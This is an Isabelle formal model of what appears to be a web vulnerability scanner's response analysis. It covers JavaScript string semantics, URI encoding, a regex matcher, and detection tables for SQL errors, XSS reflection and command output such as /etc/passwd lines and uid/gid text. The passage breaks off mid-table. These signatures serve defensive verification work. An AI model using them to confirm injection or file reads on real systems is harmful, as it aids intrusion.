theory Spec2Isabelle
  imports Main "HOL-Library.AList"
begin

section \<open>Text\<close>

text \<open>
  Text is a list of 8-bit characters. It stands for a string of JavaScript as the bytes
  of its UTF-8 encoding; an unpaired surrogate, which UTF-8 leaves out, stands as the
  three bytes of its code, \<^verbatim>\<open>ED A0 80\<close> to \<^verbatim>\<open>ED BF BF\<close>. The case conversions act on
  the ASCII letters only.
\<close>

definition toLowerChar :: "char \<Rightarrow> char" where
  "toLowerChar c =
     (case map_of (zip ''ABCDEFGHIJKLMNOPQRSTUVWXYZ'' ''abcdefghijklmnopqrstuvwxyz'') c of
        Some d \<Rightarrow> d | None \<Rightarrow> c)"

definition toUpperChar :: "char \<Rightarrow> char" where
  "toUpperChar c =
     (case map_of (zip ''abcdefghijklmnopqrstuvwxyz'' ''ABCDEFGHIJKLMNOPQRSTUVWXYZ'') c of
        Some d \<Rightarrow> d | None \<Rightarrow> c)"

definition toLowerCase :: "string \<Rightarrow> string" where
  "toLowerCase s = map toLowerChar s"

definition toUpperCase :: "string \<Rightarrow> string" where
  "toUpperCase s = map toUpperChar s"

fun startsWith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "startsWith s [] = True"
| "startsWith [] (c # t) = False"
| "startsWith (d # s) (c # t) = (d = c \<and> startsWith s t)"

definition endsWith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "endsWith s t = startsWith (rev s) (rev t)"

text \<open>\<^verbatim>\<open>s.includes(t)\<close>: \<open>t\<close> occurs in \<open>s\<close> as a contiguous run.\<close>

fun str_includes :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "str_includes [] t = (t = [])"
| "str_includes (c # s) t = (startsWith (c # s) t \<or> str_includes s t)"

text \<open>\<^verbatim>\<open>xs.join(sep)\<close> on a list of strings.\<close>

fun join :: "string \<Rightarrow> string list \<Rightarrow> string" where
  "join sep [] = []"
| "join sep [x] = x"
| "join sep (x # y # xs) = x @ sep @ join sep (y # xs)"

text \<open>
  \<^verbatim>\<open>s.replace(/pat/g, rep)\<close> for a pattern that is a plain, non-empty run of
  characters and a replacement without \<^verbatim>\<open>$\<close>: every occurrence, left to right,
  without overlap.
\<close>

fun replaceAll :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "replaceAll pat rep [] = []"
| "replaceAll pat rep (c # s) =
     (if startsWith (c # s) pat then rep @ replaceAll pat rep (drop (length pat - 1) s)
      else c # replaceAll pat rep s)"

text \<open>Numbers in template strings: the decimal text of a number.\<close>

definition digit_char :: "nat \<Rightarrow> char" where
  "digit_char d = ''0123456789'' ! (d mod 10)"

fun show_nat :: "nat \<Rightarrow> string" where
  "show_nat n = (if n < 10 then [digit_char n] else show_nat (n div 10) @ [digit_char (n mod 10)])"

declare show_nat.simps [simp del]

definition show_int :: "int \<Rightarrow> string" where
  "show_int i = (if i < 0 then CHR ''-'' # show_nat (nat (- i)) else show_nat (nat i))"

text \<open>The signs that open many findings, as UTF-8.\<close>

definition check_mark :: string where
  "check_mark = [CHR 0xE2, CHR 0x9C, CHR 0x85]"

definition warning_sign :: string where
  "warning_sign = [CHR 0xE2, CHR 0x9A, CHR 0xA0, CHR 0xEF, CHR 0xB8, CHR 0x8F]"

definition info_sign :: string where
  "info_sign = [CHR 0xE2, CHR 0x84, CHR 0xB9, CHR 0xEF, CHR 0xB8, CHR 0x8F]"

section \<open>Lengths and positions\<close>

text \<open>
  The length of a string and the positions in it count UTF-16 code units: a character
  of one, two or three bytes is one unit, a character of four bytes is two, a surrogate
  pair. Counted byte by byte: the bytes \<^verbatim>\<open>80\<close> to \<^verbatim>\<open>BF\<close>, which continue a character,
  count nothing, a first byte from \<^verbatim>\<open>F0\<close> up counts two, every other byte one.
\<close>

definition continuation :: "nat \<Rightarrow> bool" where
  "continuation b = (0x80 \<le> b \<and> b \<le> 0xBF)"

definition units :: "char \<Rightarrow> nat" where
  "units c = (if continuation (of_char c) then 0 else if (0xF0 :: nat) \<le> of_char c then 2 else 1)"

text \<open>\<^verbatim>\<open>s.length\<close>\<close>

definition js_length :: "string \<Rightarrow> nat" where
  "js_length s = sum_list (map units s)"

text \<open>
  The first unit of a character of four bytes, as text: the high surrogate of the code
  point that the four bytes encode. Four bytes cut short encode nothing; they are read
  as the replacement character.
\<close>

fun high_surrogate :: "char \<Rightarrow> string \<Rightarrow> string" where
  "high_surrogate a (b # c # d # s) =
     (let point = (of_char a mod 8) * 0x40000 + (of_char b mod 64) * 0x1000 +
                  (of_char c mod 64) * 0x40 + of_char d mod 64;
          high = 0xD800 + (point - 0x10000) div 0x400
      in [CHR 0xED, char_of (0x80 + (high div 64) mod 64), char_of (0x80 + high mod (64 :: nat))])"
| "high_surrogate a s = [CHR 0xEF, CHR 0xBF, CHR 0xBD]"

text \<open>
  \<^verbatim>\<open>s.substring(0, n)\<close>: the first \<open>n\<close> units. A cut between the two units of a
  character of four bytes leaves its high surrogate.
\<close>

fun substring0 :: "string \<Rightarrow> nat \<Rightarrow> string" where
  "substring0 [] n = []"
| "substring0 (c # s) n =
     (if continuation (of_char c) then c # substring0 s n
      else if units c \<le> n then c # substring0 s (n - units c)
      else if n = 1 then high_surrogate c s
      else [])"

text \<open>
  A string with an unpaired surrogate: the byte \<^verbatim>\<open>ED\<close> followed by a byte from
  \<^verbatim>\<open>A0\<close> up.
\<close>

fun unpaired_surrogate :: "string \<Rightarrow> bool" where
  "unpaired_surrogate (a # b # s) =
     (a = CHR 0xED \<and> (0xA0 :: nat) \<le> of_char b \<or> unpaired_surrogate (b # s))"
| "unpaired_surrogate s = False"

section \<open>Percent-encoding\<close>

definition hex_digit :: "nat \<Rightarrow> char" where
  "hex_digit d = ''0123456789ABCDEF'' ! (d mod 16)"

definition percent :: "char \<Rightarrow> string" where
  "percent c = [CHR ''%'', hex_digit (of_char c div 16), hex_digit (of_char c mod 16)]"

text \<open>
  What \<^verbatim>\<open>encodeURIComponent\<close> returns when it returns: letters, digits and
  \<^verbatim>\<open>-_.!~*'()\<close> stay, every other byte of the UTF-8 text is written \<^verbatim>\<open>%XX\<close>.
\<close>

definition uri_unreserved :: string where
  "uri_unreserved =
     ''abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.!~*()'' @ [CHR 0x27]"

definition encodeURIComponent :: "string \<Rightarrow> string" where
  "encodeURIComponent s =
     concat (map (\<lambda>c. if c \<in> set uri_unreserved then [c] else percent c) s)"

text \<open>
  The call of \<^verbatim>\<open>encodeURIComponent\<close>: on a string with an unpaired surrogate it throws
  \<^verbatim>\<open>URIError\<close>, here \<open>None\<close>.
\<close>

definition encodeURIComponent_call :: "string \<Rightarrow> string option" where
  "encodeURIComponent_call s =
     (if unpaired_surrogate s then None else Some (encodeURIComponent s))"

text \<open>
  \<^verbatim>\<open>decodeURIComponent\<close>. It raises \<^verbatim>\<open>URIError\<close> (here \<open>None\<close>) when a
  \<^verbatim>\<open>%\<close> is not followed by two hexadecimal digits, or when the escaped bytes
  from \<^verbatim>\<open>0x80\<close> up do not form well-formed UTF-8 made of escapes only.
\<close>

definition hexval :: "char \<Rightarrow> nat option" where
  "hexval c = map_of (zip ''0123456789abcdefABCDEF''
     [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 10, 11, 12, 13, 14, 15]) c"

definition hex_byte :: "char \<Rightarrow> char \<Rightarrow> nat option" where
  "hex_byte a b =
     (case hexval a of None \<Rightarrow> None
      | Some x \<Rightarrow> (case hexval b of None \<Rightarrow> None | Some y \<Rightarrow> Some (16 * x + y)))"

datatype uri_token = Plain char | Escaped nat

fun uri_tokens :: "string \<Rightarrow> uri_token list option" where
  "uri_tokens [] = Some []"
| "uri_tokens [c] = (if c = CHR ''%'' then None else Some [Plain c])"
| "uri_tokens [c, a] =
     (if c = CHR ''%'' then None else map_option (Cons (Plain c)) (uri_tokens [a]))"
| "uri_tokens (c # a # b # s) =
     (if c = CHR ''%'' then
        (case hex_byte a b of None \<Rightarrow> None
         | Some B \<Rightarrow> map_option (Cons (Escaped B)) (uri_tokens s))
      else map_option (Cons (Plain c)) (uri_tokens (a # b # s)))"

definition utf8_length :: "nat \<Rightarrow> nat" where
  "utf8_length B =
     (if B < 0x80 then 0 else if B < 0xC0 then 1 else if B < 0xE0 then 2
      else if B < 0xF0 then 3 else if B < 0xF8 then 4 else 5)"

fun well_formed_utf8 :: "nat list \<Rightarrow> bool" where
  "well_formed_utf8 [a, b] = (0xC2 \<le> a \<and> a \<le> 0xDF \<and> continuation b)"
| "well_formed_utf8 [a, b, c] =
     (continuation c \<and>
      (a = 0xE0 \<and> 0xA0 \<le> b \<and> b \<le> 0xBF \<or>
       0xE1 \<le> a \<and> a \<le> 0xEC \<and> continuation b \<or>
       a = 0xED \<and> 0x80 \<le> b \<and> b \<le> 0x9F \<or>
       0xEE \<le> a \<and> a \<le> 0xEF \<and> continuation b))"
| "well_formed_utf8 [a, b, c, d] =
     (continuation c \<and> continuation d \<and>
      (a = 0xF0 \<and> 0x90 \<le> b \<and> b \<le> 0xBF \<or>
       0xF1 \<le> a \<and> a \<le> 0xF3 \<and> continuation b \<or>
       a = 0xF4 \<and> 0x80 \<le> b \<and> b \<le> 0x8F))"
| "well_formed_utf8 bs = False"

fun escaped_byte :: "uri_token \<Rightarrow> nat option" where
  "escaped_byte (Escaped b) = Some b"
| "escaped_byte (Plain c) = None"

fun decode_tokens :: "uri_token list \<Rightarrow> string option" where
  "decode_tokens [] = Some []"
| "decode_tokens (Plain c # ts) = map_option (Cons c) (decode_tokens ts)"
| "decode_tokens (Escaped B # ts) =
     (if B < 0x80 then map_option (Cons (char_of B)) (decode_tokens ts)
      else
        let n = utf8_length B in
        if n = 1 \<or> 4 < n \<or> length ts < n - 1 then None
        else
          (case those (map escaped_byte (take (n - 1) ts)) of
             None \<Rightarrow> None
           | Some bs \<Rightarrow>
               if well_formed_utf8 (B # bs)
               then map_option (append (map char_of (B # bs))) (decode_tokens (drop (n - 1) ts))
               else None))"

definition decodeURIComponent :: "string \<Rightarrow> string option" where
  "decodeURIComponent s = (case uri_tokens s of None \<Rightarrow> None | Some ts \<Rightarrow> decode_tokens ts)"

text \<open>
  The serialisation of \<^verbatim>\<open>URLSearchParams\<close>: letters, digits and \<^verbatim>\<open>*-._\<close> stay, a
  space becomes \<^verbatim>\<open>+\<close>, every other byte is written \<^verbatim>\<open>%XX\<close>.
\<close>

definition form_unreserved :: string where
  "form_unreserved = ''abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789*-._''"

definition form_encode :: "string \<Rightarrow> string" where
  "form_encode s =
     concat (map (\<lambda>c. if c \<in> set form_unreserved then [c]
                       else if c = CHR '' '' then ''+'' else percent c) s)"

section \<open>Regular expressions\<close>

text \<open>
  The fragment of the regular expressions of JavaScript that the scanners are written
  in: single characters, \<^verbatim>\<open>.\<close>, the classes \<^verbatim>\<open>\d \s \w\<close>, bracket classes,
  alternation, sequence and the greedy \<^verbatim>\<open>* + ? {n}\<close>.
\<close>

datatype cclass = Chr char | AnyChar | Digit | Space | WordChar | OneOf string | NoneOf string

datatype rexp = Eps | Sym cclass | Alt rexp rexp | Seq rexp rexp | Star rexp

text \<open>Under the flag \<^verbatim>\<open>i\<close> characters are compared after conversion to upper case.\<close>

definition canonicalize :: "bool \<Rightarrow> char \<Rightarrow> char" where
  "canonicalize ic c = (if ic then toUpperChar c else c)"

fun class_has :: "bool \<Rightarrow> cclass \<Rightarrow> char \<Rightarrow> bool" where
  "class_has ic (Chr a) c = (canonicalize ic a = canonicalize ic c)"
| "class_has ic AnyChar c = (c \<noteq> CHR 0x0A \<and> c \<noteq> CHR 0x0D)"
| "class_has ic Digit c = (c \<in> set ''0123456789'')"
| "class_has ic Space c =
     (c \<in> set [CHR 0x09, CHR 0x0A, CHR 0x0B, CHR 0x0C, CHR 0x0D, CHR 0x20])"
| "class_has ic WordChar c =
     (c \<in> set ''abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_'')"
| "class_has ic (OneOf cs) c = list_ex (\<lambda>a. canonicalize ic a = canonicalize ic c) cs"
| "class_has ic (NoneOf cs) c = (\<not> list_ex (\<lambda>a. canonicalize ic a = canonicalize ic c) cs)"

text \<open>
  The backtracking matcher: \<open>run ic r s\<close> lists, in the order in which the engine tries
  them, the rests of \<open>s\<close> left after a match of \<open>r\<close> at the start of \<open>s\<close>. A
  repetition goes on first and stops second (greedy), and an iteration that consumes
  nothing is not repeated.
\<close>

fun run :: "bool \<Rightarrow> rexp \<Rightarrow> string \<Rightarrow> string list" where
  "run ic Eps s = [s]"
| "run ic (Sym k) [] = []"
| "run ic (Sym k) (c # t) = (if class_has ic k c then [t] else [])"
| "run ic (Alt a b) s = run ic a s @ run ic b s"
| "run ic (Seq a b) s = concat (map (run ic b) (run ic a s))"
| "run ic (Star a) s =
     concat (map (run ic (Star a)) (filter (\<lambda>t. length t < length s) (run ic a s))) @ [s]"

fun lit :: "string \<Rightarrow> rexp" where
  "lit [] = Eps"
| "lit (c # w) = Seq (Sym (Chr c)) (lit w)"

fun seqs :: "rexp list \<Rightarrow> rexp" where
  "seqs [] = Eps"
| "seqs (r # rs) = Seq r (seqs rs)"

fun alts :: "rexp list \<Rightarrow> rexp" where
  "alts [] = Eps"
| "alts [r] = r"
| "alts (r # q # rs) = Alt r (alts (q # rs))"

definition Opt :: "rexp \<Rightarrow> rexp" where
  "Opt r = Alt r Eps"

definition Plus :: "rexp \<Rightarrow> rexp" where
  "Plus r = Seq r (Star r)"

fun Rep :: "nat \<Rightarrow> rexp \<Rightarrow> rexp" where
  "Rep 0 r = Eps"
| "Rep (Suc n) r = Seq r (Rep n r)"

text \<open>The leftmost match: the rest of the text after it, if there is one.\<close>

fun first_match :: "bool \<Rightarrow> rexp \<Rightarrow> string \<Rightarrow> string option" where
  "first_match ic r [] = (case run ic r [] of [] \<Rightarrow> None | t # ts \<Rightarrow> Some t)"
| "first_match ic r (c # s) =
     (case run ic r (c # s) of [] \<Rightarrow> first_match ic r s | t # ts \<Rightarrow> Some t)"

text \<open>
  A \<^verbatim>\<open>RegExp\<close> object: what \<^verbatim>\<open>toString()\<close> prints, the expression, the flags
  \<^verbatim>\<open>i\<close> and \<^verbatim>\<open>g\<close>, and the one mutable property, \<^verbatim>\<open>lastIndex\<close>.
\<close>

record regexp =
  source_text :: string
  expression :: rexp
  ignoreCase :: bool
  global :: bool
  lastIndex :: nat

definition regexp_literal :: "string \<Rightarrow> rexp \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> regexp" where
  "regexp_literal t r i g =
     \<lparr>source_text = t, expression = r, ignoreCase = i, global = g, lastIndex = 0\<rparr>"

text \<open>
  \<^verbatim>\<open>RegExp.prototype.test\<close>. Without the flag \<^verbatim>\<open>g\<close> the search starts at 0 and
  the object is left as it is. With it the search starts at \<^verbatim>\<open>lastIndex\<close>, which is
  then set to the end of the match, or to 0 when there is none.
\<close>

definition regexp_test :: "regexp \<Rightarrow> string \<Rightarrow> bool \<times> regexp" where
  "regexp_test R s =
     (if global R then
        (if length s < lastIndex R then (False, R\<lparr>lastIndex := 0\<rparr>)
         else
           (case first_match (ignoreCase R) (expression R) (drop (lastIndex R) s) of
              None \<Rightarrow> (False, R\<lparr>lastIndex := 0\<rparr>)
            | Some t \<Rightarrow> (True, R\<lparr>lastIndex := length s - length t\<rparr>)))
      else
        (case first_match (ignoreCase R) (expression R) s of
           None \<Rightarrow> (False, R)
         | Some t \<Rightarrow> (True, R)))"

text \<open>
  \<^verbatim>\<open>for (const pattern of patterns) { if (pattern.test(body)) { ...; break; } }\<close>:
  the patterns are tested in order up to the first that matches; the result is that
  pattern, if any, and the table with the objects as the tests left them.
\<close>

fun test_first :: "regexp list \<Rightarrow> string \<Rightarrow> regexp option \<times> regexp list" where
  "test_first [] s = (None, [])"
| "test_first (R # Rs) s =
     (case regexp_test R s of
        (True, R') \<Rightarrow> (Some R', R' # Rs)
      | (False, R') \<Rightarrow> (case test_first Rs s of (hit, Rs') \<Rightarrow> (hit, R' # Rs')))"

text \<open>A regular-expression literal tested where it stands: the object is new each time.\<close>

definition test_literal :: "regexp \<Rightarrow> string \<Rightarrow> bool" where
  "test_literal R s = fst (regexp_test R s)"

section \<open>Responses and findings\<close>

text \<open>
  The \<^verbatim>\<open>data\<close> field of a response. \<open>Text s\<close> is a string. \<open>Structured s\<close> is a
  truthy value that is not a string (an object, an array, a non-zero number,
  \<^verbatim>\<open>true\<close>), carried as the text \<^verbatim>\<open>JSON.stringify\<close> gives for it, which is all the
  scanner ever reads of such a value. \<open>Absent\<close> is \<^verbatim>\<open>undefined\<close>, \<^verbatim>\<open>null\<close>,
  \<^verbatim>\<open>false\<close>, \<^verbatim>\<open>0\<close> or \<^verbatim>\<open>NaN\<close>.
\<close>

datatype data = Text string | Structured string | Absent

fun truthy_data :: "data \<Rightarrow> bool" where
  "truthy_data (Text s) = (s \<noteq> [])"
| "truthy_data (Structured s) = True"
| "truthy_data Absent = False"

text \<open>\<^verbatim>\<open>typeof data === 'string' ? data : JSON.stringify(data)\<close>, for a truthy value.\<close>

fun data_text :: "data \<Rightarrow> string" where
  "data_text (Text s) = s"
| "data_text (Structured s) = s"
| "data_text Absent = []"

text \<open>
  A response as the dispatcher hands it on: the status (0 when there was no HTTP
  response), the body, and the headers, a mapping from lower-case names to text.
\<close>

record response =
  status :: nat
  data :: data
  headers :: "(string \<times> string) list"

definition header :: "response \<Rightarrow> string \<Rightarrow> string option" where
  "header r name = map_of (headers r) name"

text \<open>A header that is there and not empty.\<close>

definition truthy_header :: "response \<Rightarrow> string \<Rightarrow> bool" where
  "truthy_header r name = (case header r name of None \<Rightarrow> False | Some v \<Rightarrow> v \<noteq> [])"

text \<open>
  \<^verbatim>\<open>typeof response.data === 'string' ? response.data : JSON.stringify(response.data || '')\<close>;
  for a falsy value that is not a string this is \<^verbatim>\<open>JSON.stringify('')\<close>, two double
  quotes.
\<close>

definition responseBody :: "response \<Rightarrow> string" where
  \<open>responseBody r = (case data r of Text s \<Rightarrow> s | Structured s \<Rightarrow> s | Absent \<Rightarrow> ''""'')\<close>

datatype confidence = Low | Medium | High

record analysis =
  vulnerable :: bool
  confidence :: confidence
  indicators :: "string list"
  "notes" :: string

definition new_result :: analysis where
  "new_result = \<lparr>vulnerable = False, confidence = Low, indicators = [], notes = []\<rparr>"

text \<open>\<^verbatim>\<open>result.indicators.push(x)\<close>\<close>

definition push :: "string \<Rightarrow> analysis \<Rightarrow> analysis" where
  "push x result = result\<lparr>indicators := indicators result @ [x]\<rparr>"

section \<open>The state of the scanner modules\<close>

text \<open>
  The regular-expression objects that the modules create once, when they are loaded,
  and keep in their tables. They are the only objects of a module that a call of one
  of its methods could change.
\<close>

record modules =
  sqlErrorPatterns :: "regexp list"
  sql_successPatterns :: "regexp list"
  reflectionPatterns :: "regexp list"
  commandOutputPatterns :: "regexp list"
  fileContentPatterns :: "regexp list"
  path_errorPatterns :: "regexp list"
  nullBytePatterns :: "regexp list"
  vulnerabilityPatterns :: "regexp list"
  nosql_successPatterns :: "regexp list"
  verboseErrorPatterns :: "regexp list"

text \<open>The tables as the modules build them when they are loaded.\<close>

definition sqlErrorPatterns_loaded :: "regexp list" where
  \<open>sqlErrorPatterns_loaded = [
      regexp_literal (''/sql syntax/i'') (lit (''sql syntax'')) True False,
      regexp_literal (''/mysql_fetch/i'') (lit (''mysql_fetch'')) True False,
      regexp_literal (''/mysql_num_rows/i'') (lit (''mysql_num_rows'')) True False,
      regexp_literal (''/mysql_query/i'') (lit (''mysql_query'')) True False,
      regexp_literal (''/pg_query/i'') (lit (''pg_query'')) True False,
      regexp_literal (''/pg_exec/i'') (lit (''pg_exec'')) True False,
      regexp_literal (''/sqlite_/i'') (lit (''sqlite_'')) True False,
      regexp_literal (''/ORA-'' @ [CHR 0x5C] @ ''d{5}/i'') (seqs [lit (''ORA-''), Rep 5 (Sym Digit)]) True False,
      regexp_literal (''/Oracle error/i'') (lit (''Oracle error'')) True False,
      regexp_literal (''/ODBC SQL Server Driver/i'') (lit (''ODBC SQL Server Driver'')) True False,
      regexp_literal (''/SQLServer JDBC Driver/i'') (lit (''SQLServer JDBC Driver'')) True False,
      regexp_literal (''/Microsoft OLE DB Provider/i'') (lit (''Microsoft OLE DB Provider'')) True False,
      regexp_literal (''/Incorrect syntax near/i'') (lit (''Incorrect syntax near'')) True False,
      regexp_literal (''/Unclosed quotation mark/i'') (lit (''Unclosed quotation mark'')) True False,
      regexp_literal (''/quoted string not properly terminated/i'') (lit (''quoted string not properly terminated'')) True False,
      regexp_literal (''/syntax error at or near/i'') (lit (''syntax error at or near'')) True False,
      regexp_literal (''/unexpected end of SQL command/i'') (lit (''unexpected end of SQL command'')) True False,
      regexp_literal (''/invalid column name/i'') (lit (''invalid column name'')) True False,
      regexp_literal (''/unknown column/i'') (lit (''unknown column'')) True False,
      regexp_literal (''/no such column/i'') (lit (''no such column'')) True False,
      regexp_literal (''/column.*does not exist/i'') (seqs [lit (''column''), Star (Sym AnyChar), lit (''does not exist'')]) True False,
      regexp_literal (''/table.*doesn't exist/i'') (seqs [lit (''table''), Star (Sym AnyChar), lit (''doesn't exist'')]) True False,
      regexp_literal (''/no such table/i'') (lit (''no such table'')) True False,
      regexp_literal (''/division by zero/i'') (lit (''division by zero'')) True False,
      regexp_literal (''/You have an error in your SQL syntax/i'') (lit (''You have an error in your SQL syntax'')) True False,
      regexp_literal (''/Warning.*mysql_/i'') (seqs [lit (''Warning''), Star (Sym AnyChar), lit (''mysql_'')]) True False,
      regexp_literal (''/valid MySQL result/i'') (lit (''valid MySQL result'')) True False,
      regexp_literal (''/PostgreSQL.*ERROR/i'') (seqs [lit (''PostgreSQL''), Star (Sym AnyChar), lit (''ERROR'')]) True False,
      regexp_literal (''/Warning.*pg_/i'') (seqs [lit (''Warning''), Star (Sym AnyChar), lit (''pg_'')]) True False,
      regexp_literal (''/Warning.*sqlite_/i'') (seqs [lit (''Warning''), Star (Sym AnyChar), lit (''sqlite_'')]) True False,
      regexp_literal (''/SQLite'' @ [CHR 0x5C] @ ''/JDBCDriver/i'') (lit (''SQLite/JDBCDriver'')) True False,
      regexp_literal (''/SQLite.Exception/i'') (seqs [lit (''SQLite''), Sym AnyChar, lit (''Exception'')]) True False,
      regexp_literal (''/System.Data.SQLite.SQLiteException/i'') (seqs [lit (''System''), Sym AnyChar, lit (''Data''), Sym AnyChar, lit (''SQLite''), Sym AnyChar, lit (''SQLiteException'')]) True False,
      regexp_literal (''/SQLITE_ERROR/i'') (lit (''SQLITE_ERROR'')) True False,
      regexp_literal (''/SQL Server.*Driver/i'') (seqs [lit (''SQL Server''), Star (Sym AnyChar), lit (''Driver'')]) True False,
      regexp_literal (''/SQL Server.*Error/i'') (seqs [lit (''SQL Server''), Star (Sym AnyChar), lit (''Error'')]) True False,
      regexp_literal (''/Access.*Driver/i'') (seqs [lit (''Access''), Star (Sym AnyChar), lit (''Driver'')]) True False,
      regexp_literal (''/Jet Database Engine/i'') (lit (''Jet Database Engine'')) True False,
      regexp_literal (''/Driver.*SQL[-_ ]*Server/i'') (seqs [lit (''Driver''), Star (Sym AnyChar), lit (''SQL''), Star (Sym (OneOf (''-_ ''))), lit (''Server'')]) True False,
      regexp_literal (''/SQLSTATE/i'') (lit (''SQLSTATE'')) True False,
      regexp_literal (''/psycopg2/i'') (lit (''psycopg2'')) True False,
      regexp_literal (''/mysqli/i'') (lit (''mysqli'')) True False,
      regexp_literal (''/PDOException/i'') (lit (''PDOException'')) True False,
      regexp_literal (''/db2_/i'') (lit (''db2_'')) True False,
      regexp_literal (''/ifx_/i'') (lit (''ifx_'')) True False,
      regexp_literal (''/sybase/i'') (lit (''sybase'')) True False]\<close>

definition sql_successPatterns_loaded :: "regexp list" where
  \<open>sql_successPatterns_loaded = [
      regexp_literal (''/root:.*:0:0/i'') (seqs [lit (''root:''), Star (Sym AnyChar), lit ('':0:0'')]) True False,
      regexp_literal (''/admin.*password/i'') (seqs [lit (''admin''), Star (Sym AnyChar), lit (''password'')]) True False,
      regexp_literal (''/user.*password/i'') (seqs [lit (''user''), Star (Sym AnyChar), lit (''password'')]) True False,
      regexp_literal (''/login.*success.*true/i'') (seqs [lit (''login''), Star (Sym AnyChar), lit (''success''), Star (Sym AnyChar), lit (''true'')]) True False,
      regexp_literal (''/authentication.*bypass/i'') (seqs [lit (''authentication''), Star (Sym AnyChar), lit (''bypass'')]) True False]\<close>

definition reflectionPatterns_loaded :: "regexp list" where
  \<open>reflectionPatterns_loaded = [
      regexp_literal (''/<script[^>]*>.*<'' @ [CHR 0x5C] @ ''/script>/gi'') (seqs [lit (''<script''), Star (Sym (NoneOf (''>''))), lit (''>''), Star (Sym AnyChar), lit (''</script>'')]) True True,
      regexp_literal (''/<img[^>]*onerror[^>]*>/gi'') (seqs [lit (''<img''), Star (Sym (NoneOf (''>''))), lit (''onerror''), Star (Sym (NoneOf (''>''))), lit (''>'')]) True True,
      regexp_literal (''/<svg[^>]*onload[^>]*>/gi'') (seqs [lit (''<svg''), Star (Sym (NoneOf (''>''))), lit (''onload''), Star (Sym (NoneOf (''>''))), lit (''>'')]) True True,
      regexp_literal (''/<body[^>]*onload[^>]*>/gi'') (seqs [lit (''<body''), Star (Sym (NoneOf (''>''))), lit (''onload''), Star (Sym (NoneOf (''>''))), lit (''>'')]) True True,
      regexp_literal (''/<input[^>]*onfocus[^>]*>/gi'') (seqs [lit (''<input''), Star (Sym (NoneOf (''>''))), lit (''onfocus''), Star (Sym (NoneOf (''>''))), lit (''>'')]) True True,
      regexp_literal (''/javascript:/gi'') (lit (''javascript:'')) True True,
      regexp_literal (''/on'' @ [CHR 0x5C] @ ''w+'' @ [CHR 0x5C] @ ''s*=/gi'') (seqs [lit (''on''), Plus (Sym WordChar), Star (Sym Space), lit (''='')]) True True,
      regexp_literal (''/<iframe[^>]*>/gi'') (seqs [lit (''<iframe''), Star (Sym (NoneOf (''>''))), lit (''>'')]) True True,
      regexp_literal (''/<object[^>]*>/gi'') (seqs [lit (''<object''), Star (Sym (NoneOf (''>''))), lit (''>'')]) True True,
      regexp_literal (''/<embed[^>]*>/gi'') (seqs [lit (''<embed''), Star (Sym (NoneOf (''>''))), lit (''>'')]) True True,
      regexp_literal (''/<link[^>]*>/gi'') (seqs [lit (''<link''), Star (Sym (NoneOf (''>''))), lit (''>'')]) True True,
      regexp_literal (''/<meta[^>]*http-equiv/gi'') (seqs [lit (''<meta''), Star (Sym (NoneOf (''>''))), lit (''http-equiv'')]) True True]\<close>

definition commandOutputPatterns_loaded :: "regexp list" where
  \<open>commandOutputPatterns_loaded = [
      regexp_literal (''/root:.*:0:0:/i'') (seqs [lit (''root:''), Star (Sym AnyChar), lit ('':0:0:'')]) True False,
      regexp_literal (''/bin'' @ [CHR 0x5C] @ ''/bash/i'') (lit (''bin/bash'')) True False,
      regexp_literal (''/bin'' @ [CHR 0x5C] @ ''/sh/i'') (lit (''bin/sh'')) True False,
      regexp_literal (''/nobody:.*:65534/i'') (seqs [lit (''nobody:''), Star (Sym AnyChar), lit ('':65534'')]) True False,
      regexp_literal (''/daemon:.*:1:1/i'') (seqs [lit (''daemon:''), Star (Sym AnyChar), lit ('':1:1'')]) True False,
      regexp_literal (''/uid='' @ [CHR 0x5C] @ ''d+.*gid='' @ [CHR 0x5C] @ ''d+/i'') (seqs [lit (''uid=''), Plus (Sym Digit), Star (Sym AnyChar), lit (''gid=''), Plus (Sym Digit)]) True False,
      regexp_literal (''/Linux.*'' @ [CHR 0x5C] @ ''d+'' @ [CHR 0x5C] @ ''.'' @ [CHR 0x5C] @ ''d+'' @ [CHR 0x5C] @ ''.'' @ [CHR 0x5C] @ ''d+/i'') (seqs [lit (''Linux''), Star (Sym AnyChar), Plus (Sym Digit), lit (''.''), Plus (Sym Digit), lit (''.''), Plus (Sym Digit)]) True False,
      regexp_literal (''/total '' @ [CHR 0x5C] @ ''d+'' @ [CHR 0x5C] @ ''s+drwx/i'') (seqs [lit (''total ''), Plus (Sym Digit), Plus (Sym Space), lit (''drwx'')]) True False,
      regexp_literal (''/drwxr-xr-x/i'') (lit (''drwxr-xr-x'')) True False,
      regexp_literal (''/-rw-r--r--/i'') (lit (''-rw-r--r--'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''/home'' @ [CHR 0x5C] @ ''/'' @ [CHR 0x5C] @ ''w+/i'') (seqs [lit (''/home/''), Plus (Sym WordChar)]) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''/usr'' @ [CHR 0x5C] @ ''/bin/i'') (lit (''/usr/bin'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''/var'' @ [CHR 0x5C] @ ''/log/i'') (lit (''/var/log'')) True False,
      regexp_literal (''/Volume Serial Number/i'') (lit (''Volume Serial Number'')) True False,
      regexp_literal (''/Directory of/i'') (lit (''Directory of'')) True False,
      regexp_literal (''/'' @ [CHR 0x5C] @ ''d{2}'' @ [CHR 0x5C] @ ''/'' @ [CHR 0x5C] @ ''d{2}'' @ [CHR 0x5C] @ ''/'' @ [CHR 0x5C] @ ''d{4}/i'') (seqs [Rep 2 (Sym Digit), lit (''/''), Rep 2 (Sym Digit), lit (''/''), Rep 4 (Sym Digit)]) True False,
      regexp_literal (''/Windows IP Configuration/i'') (lit (''Windows IP Configuration'')) True False,
      regexp_literal (''/Ethernet adapter/i'') (lit (''Ethernet adapter'')) True False,
      regexp_literal (''/C:'' @ [CHR 0x5C, CHR 0x5C] @ ''Windows/i'') (lit (''C:'' @ [CHR 0x5C] @ ''Windows'')) True False,
